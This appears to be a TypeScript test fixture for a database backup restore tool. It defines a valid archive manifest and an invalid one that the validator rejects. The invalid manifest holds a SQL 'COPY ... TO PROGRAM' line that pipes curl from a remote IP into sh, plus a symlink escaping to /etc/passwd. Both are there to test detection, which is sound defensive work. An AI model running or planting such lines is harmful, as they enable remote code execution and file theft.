import type { DumpTable, Manifest } from '../../../../shared/manifest';

const TABLES: readonly (readonly [string, number, number])[] = [
  ['users_user', 48_211, 9_840_112],
  ['users_user_groups', 312, 4_368],
  ['users_user_user_permissions', 41, 574],
  ['auth_group', 7, 140],
  ['auth_group_permissions', 288, 3_456],
  ['auth_permission', 312, 18_096],
  ['django_admin_log', 9_104, 1_638_720],
  ['django_content_type', 78, 2_340],
  ['django_migrations', 214, 14_980],
  ['django_session', 20_455, 6_136_500],
  ['events_event', 1_877, 4_129_400],
  ['events_category', 24, 816],
  ['events_eventimage', 5_630, 788_200],
  ['events_ticket', 1_204_331, 204_736_270],
  ['events_tickettype', 6_120, 673_200],
  ['orders_order', 402_117, 76_402_230],
  ['orders_orderitem', 1_198_204, 119_820_400],
  ['payments_transaction', 398_551, 95_652_240],
  ['payments_refund', 3_402, 612_360],
  ['notifications_email_delivery_attempt_with_a_long_name', 2_310_554, 184_844_320],
];

export const TABLE_LIST: readonly DumpTable[] = TABLES.map(([name, rows, bytes]) => ({
  schema: 'public',
  name,
  rows,
  bytes,
}));
export const ROWS = TABLES.reduce((sum, [, rows]) => sum + rows, 0);

const DUMP = 'backups-20260201-120000/cloudsql/tuki-db-prod-tuki_production-20260201.sql.gz';

/** An archive of realistic size and shape that can be restored. */
export const validManifest: Manifest = {
  version: 1,
  path: '/home/sebastian/respaldos/2026/febrero/backup-gcp-20260201.tar.gz',
  filename: 'backup-gcp-20260201.tar.gz',
  bytes: 612_402_118,
  sha256: '9f2b6c1e7a40d83f5be1c99a7730d54e8812f6a0b3c47de95f1ab27c60ee4d13',
  compression: 'gzip',
  expandedBytes: 1_148_222_976,
  entries: 3_214,
  root: 'backups-20260201-120000',
  madeAt: '2026-02-01T15:00:00Z',
  valid: true,
  errors: [],
  warnings: [
    {
      code: 'mac-files-skipped',
      params: { count: 12 },
      where: 'backups-20260201-120000/gcs/tuki-media-prod-1/.DS_Store',
    },
    { code: 'dump-lines-left-out', params: { count: 187 }, where: DUMP },
  ],
  dumps: [
    {
      name: DUMP,
      members: [{ entry: DUMP, offset: 1536, bytes: 204_113_908 }],
      layers: ['gzip'],
      format: 'plain',
      bytes: 705_443_210,
      database: 'tuki_production',
      serverVersion: '15.12',
      toolVersion: '15.12',
      archiveVersion: null,
      innerCompression: null,
      madeByPgDump: true,
      encoding: 'UTF8',
      tables: [...TABLE_LIST],
      rows: ROWS,
      largeObjects: false,
      extensions: [
        { name: 'pg_trgm', schema: 'public' },
        { name: 'unaccent', schema: 'public' },
      ],
      schemas: ['public'],
      roles: ['cloudsqlsuperuser', 'tuki_user'],
      functions: ['public.events_search_vector_update()'],
      triggers: ['events_event_search_update'],
      policies: [],
      migrations: [
        { app: 'users', name: '0014_alter_user_phone' },
        { app: 'payments', name: '0031_refund_reason' },
        { app: 'events', name: '0042_event_seo_fields' },
      ],
      cutRanges: [
        ...cuts('owner', 118, (n) => `ALTER TABLE public.${TABLES[n % 20]?.[0]} OWNER TO cloudsqlsuperuser;`),
        ...cuts(
          'acl',
          61,
          (n) => `GRANT SELECT,INSERT,UPDATE ON TABLE public.${TABLES[n % 20]?.[0]} TO tuki_readonly;`,
        ),
        ...cuts(
          'comment-on-extension',
          2,
          () => "COMMENT ON EXTENSION pg_trgm IS 'text similarity measurement';",
        ),
        ...cuts('cloud-sql-extension', 1, () => 'CREATE EXTENSION IF NOT EXISTS google_vacuum_mgmt;'),
        ...cuts('restrict', 2, () => '\\restrict x7aE0Qm1'),
        ...cuts('unknown-setting', 1, () => 'SET transaction_timeout = 0;'),
      ],
      indexRuns: [],
      sessionSettings: [],
      cutEntries: [],
    },
  ],
  media: {
    buckets: [
      {
        name: 'tuki-media-prod-1769',
        entry: 'backups-20260201-120000/gcs/tuki-media-prod-1769',
        files: 3_104,
        bytes: 408_113_402,
      },
      {
        name: 'tuki-media-prod-static',
        entry: 'backups-20260201-120000/gcs/tuki-media-prod-static',
        files: 92,
        bytes: 1_904_220,
      },
    ],
    files: 3_196,
    bytes: 410_017_622,
    folders: [
      { path: 'events/images', files: 2_740, bytes: 371_204_118 },
      { path: 'events/thumbnails', files: 210, bytes: 12_400_300 },
      { path: 'organizers/logos', files: 96, bytes: 9_880_112 },
      { path: 'tickets/qr', files: 58, bytes: 14_628_872 },
      { path: 'static/admin', files: 92, bytes: 1_904_220 },
    ],
  },
  recordsFile: '/home/sebastian/.local/share/restore-console/records/9f2b6c1e',
  inspectedAt: '2026-02-04T12:04:11Z',
  inspectionSeconds: 3.1,
};

/** An archive that must be refused, with several problems. */
export const invalidManifest: Manifest = {
  ...validManifest,
  path: '/home/sebastian/respaldos/backup-gcp-20260131.tar.gz',
  filename: 'backup-gcp-20260131.tar.gz',
  valid: false,
  errors: [
    {
      code: 'dump-copy-program',
      params: { text: "COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/x | sh'" },
      where: 'backups-20260131-120000/cloudsql/tuki-db-prod-tuki_production-20260131.sql.gz:90211',
    },
    {
      code: 'archive-link-escapes',
      params: { target: '/etc/passwd' },
      where: 'backups-20260131-120000/gcs/tuki-media-prod-1/events/images/latest.jpg',
    },
  ],
  warnings: [],
};

function cuts(
  rule: Manifest['dumps'][number]['cutRanges'][number]['rule'],
  count: number,
  text: (n: number) => string,
) {
  return Array.from({ length: count }, (_, n) => ({
    start: n * 400,
    end: n * 400 + 60,
    firstLine: 40 + n * 37,
    lastLine: 40 + n * 37,
    rule,
    text: text(n),
  }));
}
